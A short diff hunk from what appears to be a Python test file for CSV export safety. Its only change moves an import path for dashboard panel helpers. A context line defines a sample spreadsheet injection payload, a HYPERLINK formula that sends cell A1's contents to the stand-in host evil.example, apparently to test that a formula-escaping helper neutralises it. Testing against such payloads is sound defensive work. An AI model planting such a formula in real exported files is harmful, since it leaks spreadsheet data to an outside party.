@@ -14,9 +14,9 @@ import pandas as pd
 
 from daily.handoff import OVERDUE_COLUMNS, RETURNING_COLUMNS
 from daily.render import handoff_csv, md_cell, table_csv
+from dashboard.panels import col, table
 from foundation.csv_safe import FORMULA_STARTS, safe_cell
 from foundation.io import write_table
-from serve.dashboard.panels import col, table
 
 ROOT = Path(__file__).resolve().parents[1]
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
